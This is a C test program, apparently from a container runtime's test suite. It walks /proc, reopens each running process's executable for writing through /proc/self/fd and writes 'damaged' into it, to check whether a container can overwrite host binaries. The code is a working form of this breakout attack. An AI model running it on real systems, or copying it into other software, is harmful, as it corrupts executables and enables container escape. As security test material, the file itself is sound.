/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * overwrite-exe            try /proc/self/exe and every /proc/PID/exe that is not our own
 * overwrite-exe watch      the same for ever, for processes that come in
 * overwrite-exe self FILE  make FILE, hold it as a descriptor only, and open it for writing through
 *                          /proc/self/fd: shows that the way is open where nothing guards it
 *
 * A file that can be opened is damaged, so that the test sees it even if nobody reads our output.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static ino_t own_inode;

/* The image's own program is the container's to change: no attack. By its name, since who ran it
 * may be gone. */
static int of_the_image(const struct stat *opened)
{
	struct stat st;

	return stat("/bin/busybox", &st) == 0 && st.st_ino == opened->st_ino &&
	       st.st_dev == opened->st_dev;
}

static void attack(const char *path)
{
	char name[300];
	struct stat st;
	int held = open(path, O_RDONLY | O_CLOEXEC), fd;

	if (held < 0)
		return;
	if (fstat(held, &st) == 0 && st.st_ino != own_inode && !of_the_image(&st)) {
		snprintf(name, sizeof(name), "/proc/self/fd/%d", held);
		/* the file of a running program is busy for a while (ETXTBSY) */
		for (int i = 0; i < 1000; i++) {
			fd = open(name, O_WRONLY);
			if (fd >= 0) {
				if (write(fd, "damaged", 7) == 7)
					puts("opened for writing");
				close(fd);
				break;
			}
		}
	}
	close(held);
}

static void attack_all(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char name[300];

	if (!proc)
		return;
	while ((entry = readdir(proc))) {
		if (!isdigit((unsigned char)entry->d_name[0]))
			continue;
		snprintf(name, sizeof(name), "/proc/%s/exe", entry->d_name);
		attack(name);
	}
	closedir(proc);
}

int main(int argc, char **argv)
{
	struct stat st;

	if (argc > 2 && strcmp(argv[1], "self") == 0) {
		int fd = open(argv[2], O_RDWR | O_CREAT, 0700);

		if (fd < 0 || write(fd, "x", 1) != 1)
			return 1;
		close(fd);
		if (chdir("/") < 0)
			return 1;
		attack(argv[2]);
		return 0;
	}
	if (stat("/proc/self/exe", &st) == 0)
		own_inode = st.st_ino;
	do
		attack_all();
	while (argc > 1 && strcmp(argv[1], "watch") == 0);
	return 0;
}
